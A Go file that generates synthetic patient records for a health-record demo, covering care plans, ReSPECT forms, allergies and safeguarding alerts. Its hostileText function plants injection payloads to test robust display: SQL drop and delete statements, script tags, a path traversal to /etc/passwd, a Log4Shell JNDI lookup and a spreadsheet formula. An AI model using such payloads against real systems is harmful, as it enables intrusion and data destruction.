package demo

import "time"

// everything fills every section, in all four systems.
func everything(l *life) {
	l.p.states[inMentalHealth].middle, l.p.states[inMentalHealth].given = "", "Phil"
	l.p.states[inSocialCare].title = ""
	l.p.states[inHospital].mobile = "07700 900955"
	l.p.kin = []relative{
		{name: "Leonora Everard", given: "Leonora", family: "Everard", relation: "DAU", relationText: "Daughter", phone: "07700 901002",
			address: "8 Beech Drive, Thornby, WM5 1AB", nextOfKin: true, carer: true, attorney: true},
		{name: "Augustus Hollis", given: "Augustus", family: "Hollis", relation: "SON", relationText: "Son", phone: "07700 901003",
			address: "27 Canal Walk, Harrowmere, WM1 2CD"},
	}
	allergic := allergens()[0]
	allergic.said = said{in: inGP | inHospital | inMentalHealth, at: l.today.AddDate(-12, 2, 3).Add(10 * time.Hour), by: "pharmacist", note: "Widespread rash on day two."}
	latex := allergens()[5]
	latex.said = said{in: inHospital, at: l.days(300, 400), by: "ward-nurse"}
	wrong := allergens()[4]
	wrong.said = said{in: inGP, at: l.days(500, 600), by: "gp", mistaken: true}
	cat := allergens()[7]
	cat.said, cat.resolved = said{in: inGP, at: l.years(15, 20), by: "gp"}, true
	l.h.allergies = []allergy{allergic, latex, wrong, cat}

	prevention(l)
	for _, run := range []func(*life){asthma, diabetes, hypertension, kidney, heart, falls, pneumonia, dementia, support} {
		run(l)
	}
	// Stopped in hospital, still on repeat at the practice (hazard H-11).
	since := l.days(700, 800)
	l.medicine(inGP, "naproxen", "gp", since, true).reason = "Osteoarthritis of knee"
	stopped := l.medicine(inHospital, "naproxen", "elderly", since, false)
	stopped.stopped, stopped.reasonS = l.days(30, 40), "acute kidney injury"
	everythingCare(l)
}

// everythingCare fills the sections about care rather than illness.
func everythingCare(l *life) {
	now := l.days(10, 30)
	l.admit(inHospital, "elderly", "Ward 3 (Care of the elderly)", "Acute kidney injury on chronic kidney disease", l.today.AddDate(0, 0, -2).Add(14*time.Hour), 0)
	l.bedside(l.today.AddDate(0, 0, -1).Add(9*time.Hour), 1)
	l.test(inHospital, "ue", "elderly", l.today.AddDate(0, 0, -1).Add(7*time.Hour), map[string]float64{"14682-9": 240, "62238-1": 19, "22664-7": 18, "2823-3": 5.6})
	s := l.admit(inMentalHealth, "psychiatry", "ELM", "Assessment of memory", l.days(300, 350), 21)
	s.section = "INF"
	l.h.referrals = append(l.h.referrals,
		referral{said: said{in: inMentalHealth, at: l.days(360, 380), by: "psychiatry"}, to: "OPMH", reason: "Memory problems", status: "active"},
		referral{said: said{in: inGP, at: l.days(380, 390), by: "gp"}, to: "Older People's Mental Health", reason: "Memory problems, daughter worried", status: "completed"},
		referral{said: said{in: inHospital, at: now, by: "elderly"}, to: "Community therapy", reason: "Mobility after a fall", status: "active"})
	for range 3 {
		l.contact(inMentalHealth, "cpn", "HH", sct("11429006", "Consultation"), "", "Home", l.days(10, 300)).note = "Seen with daughter. BP <140 systolic."
	}
	l.appointment(inMentalHealth, "psychiatry", "Memory clinic", "Larkfield House, Thornby", l.ahead(10, 30))
	l.appointment(inHospital, "elderly", "Falls clinic", "Outpatients 4, Royal Westmarch Infirmary", l.ahead(12, 40))
	l.appointment(inHospital, "renal", "Renal clinic", "Outpatients 1, Royal Westmarch Infirmary", l.ahead(3, 9)).status = "cancelled"
	l.document(inMentalHealth, "psychiatry", sct("823691000000103", "Clinical letter"), "LETTER", "Memory clinic letter", l.days(40, 200))
	l.document(inGP, "gp", sct("1382601000000107", "ReSPECT form"), "RESPECT", "ReSPECT: recommended summary plan for emergency care", l.days(40, 200))
	l.document(inHospital, "radiology", sct("4201000179104", "Imaging report"), "IMG", "Chest X-ray report", l.days(20, 200)).mime = "text/plain"
	l.document(inHospital, "cardiology", sct("164847006", "Standard electrocardiogram"), "ECG", "Heart trace (ECG)", now).mime = "image/png"
	l.document(inGP, "gp", sct("823691000000103", "Clinical letter"), "LETTER", "Note to the district nurses", now).mime = "text/plain"
	l.teamMember(inGP, "gp", "Usual GP", "Usual GP", l.years(4, 8))
	l.teamMember(inHospital, "elderly", "Responsible consultant", "Care of the elderly", l.days(2, 3))
	l.plan(inHospital, "elderly", "Care plan", "Falls prevention", []string{"Walk 20 metres with a frame", "No falls in three months"}, now)
	l.plan(inGP, "gp", "Care plan", "Diabetes care plan", []string{"HbA1c below 58 mmol/mol"}, l.days(60, 200))
	l.h.plans[len(l.h.plans)-1].about = l.ills["diabetes"].code
	l.h.plans[len(l.h.plans)-2].actions = []string{"Physiotherapy twice a week", "Frame within reach at night"}
	everythingWishes(l)
	l.plan(inSocialCare, "social-worker", "Contingency plan", "If Leonora cannot visit", []string{"Call Augustus", "Extra home care calls"}, l.days(60, 200))
	l.alert(inSocialCare, "social-worker", concept{display: "Access"}, "Access", "Key safe at side door", "L", "social", l.days(60, 200))
	l.alert(inHospital, "elderly", sct("450476008", "Not for attempted cardiopulmonary resuscitation"), "", "Not for attempted CPR: see ReSPECT form", "H", "clinical", l.days(40, 60))
	l.social(inGP, l.days(100, 300), sct("224249004", "Characteristics of home environment"), "Lives alone in a ground floor flat")
	l.h.family = append(l.h.family, familyIllness{said: said{in: inGP, at: l.years(5, 9), by: "gp"},
		relation: concept{"http://terminology.hl7.org/CodeSystem/v3-RoleCode", "MTH", "mother"}, code: l.ills["dementia"].code})
	l.h.devices = append(l.h.devices, medicine{said: said{in: inHospital, at: l.days(500, 900), by: "cardiology"}, code: sct("14106009", "Cardiac pacemaker")})
	l.problem(inGP, "gout", "gp", l.days(500, 600)).mistaken = true
	laboratories(l)
}

// everythingWishes are what she wants and what was decided with her: two ReSPECT forms that
// say different things (hazard H-11), an advance decision, and what matters to her.
func everythingWishes(l *life) {
	form := sct("1382601000000107", "ReSPECT form")
	earlier := l.decide(inGP, "gp", form, "attempt", l.today.AddDate(-1, -5, 0).Add(11*time.Hour), "For admission to hospital if it can be put right", "Preferred place of care – own home")
	earlier.original = "Yellow folder by the front door"
	later := l.decide(inHospital, "elderly", form, "refuse", l.today.AddDate(0, 0, -44).Add(15*time.Hour), "Comfort first; not for intensive care", "Treat infections by mouth or vein on the ward")
	later.original = "Front of the paper notes, Ward 3"
	refusal := l.decide(inGP, "gp", sct("816301000000100", "Has advance decision to refuse treatment (Mental Capacity Act 2005)"), "", l.today.AddDate(0, -8, 0).Add(10*time.Hour),
		"Artificial ventilation", "Tube feeding")
	refusal.consent, refusal.original, refusal.review = true, "Signed original with her daughter Leonora; copy scanned at the practice", l.today.AddDate(2, 0, 0)
	l.plan(inMentalHealth, "cpn", "Contingency plan", "If her memory suddenly gets worse", []string{"Stay at home as long as it is safe"}, l.today.AddDate(0, -14, 0))
	l.h.plans[len(l.h.plans)-1].actions = []string{"Look for an infection first", "Ring the memory team, who know her", "Ask Leonora to come"}
	l.tell(inSocialCare, "social-worker", l.today.AddDate(0, -3, 0),
		[2]string{"What is most important to me", "My daughter Leonora and my garden. I was a piano teacher for 40 years and music calms me."},
		[2]string{"How to communicate with me", "Sit where I can see your face and speak slowly. I hear better on my right. Give me time; I get there."},
		[2]string{"My wellness", "A good day is one with a walk to the gate and a cup of tea with somebody. BP <140 makes my nurse happy."},
		[2]string{"Please do and please don't", "Please do call me Phil.\nPlease don't move my frame: I need to know where it is."})
}

func restricted(l *life) {
	l.p.states[inHospital].hidden = true // the others still have the address
	sexualHealth(l)
	depression(l)
	minor(l)
	l.alert(inHospital|inMentalHealth|inSocialCare, "social-worker", sct("704659007", "Domestic abuse victim"), "Safeguarding",
		"Safeguarding: at risk from partner; do not disclose address", "H", "safeguarding", l.days(20, 60)).label = "R"
	l.document(inHospital, "sexual-health", sct("823691000000103", "Clinical letter"), "LETTER", "Sexual health clinic letter", l.days(40, 90)).label = "R"
	l.h.allergies = []allergy{{said: said{in: inGP | inHospital, at: l.days(300, 400), by: "gp"}, none: true}}
	support(l)
}

// hostileText is text that breaks careless programs, and must be shown intact.
func hostileText(l *life) {
	const rtl = "\u202Eevil\u202C مرحبا بالعالم"
	for _, s := range l.p.states {
		s.formerFamily = "Robert'); DROP TABLE patients;--"
		s.email = "a,\"b\"@example.org"
	}
	l.h.allergies = []allergy{{said: said{in: inGP | inHospital | inMentalHealth, at: l.days(50, 70), by: "gp", note: "<img src=x onerror=alert(1)> BP <140 & pulse >60 " + rtl},
		code: sct("1003755004", "Allergy to Hevea brasiliensis latex protein"), reaction: reactions()["rash"], severity: "mild", criticality: "low", category: "environment"}}
	l.problem(inGP|inHospital|inMentalHealth, "hypertension", "cardiology", l.days(300, 400)).note = "BP <140 systolic on 2 of 3 readings; \"quoted\", comma, \\backslash\\ and\nnew line"
	l.medicine(inGP|inMentalHealth, "amlodipine", "gp", l.days(200, 300), true).reason = "=HYPERLINK(\"http://example.invalid\",\"click\")"
	l.document(inHospital|inMentalHealth, "cardiology", sct("823691000000103", "Clinical letter"), "LETTER", "../../etc/passwd\";<svg onload=alert(1)>.pdf "+rtl, l.days(30, 60))
	l.alert(inHospital|inMentalHealth|inSocialCare, "cpn", sct("225915006", "At risk of violence"), "Risk to staff", "</td><script>alert('alert')</script> 100% {{7*7}} ${jndi:ldap://example.invalid/a}", "M", "safety", l.days(30, 60))
	l.contact(inSocialCare, "social-worker", "HH", concept{display: "Home visit"}, "Review", "Home", l.days(10, 20)).note = "Said \"no thanks\", twice;\r\nsecond line, with comma " + rtl
	l.contact(inMentalHealth, "cpn", "AMB", sct("11429006", "Consultation"), "", "Larkfield House", l.days(10, 20)).note = "'; DELETE FROM contacts; --"
	l.p.kin = []relative{{name: "Null O'Undefined", given: "Null", family: "O'Undefined", relation: "SPS", relationText: "Partner", phone: "+44 7700 900000 ext. 1", nextOfKin: true}}
}

func smallChild(l *life) {
	l.kin()
	childhood(l)
	l.past(inHospital, "croup", "paediatrics", l.days(90, 200), 3)
	l.h.allergies = []allergy{{said: said{in: inGP, at: l.days(100, 300), by: "gp"}, none: true}}
	l.appointment(inGP, "practice-nurse", "Preschool vaccinations", "Treatment room", l.ahead(10, 30))
}
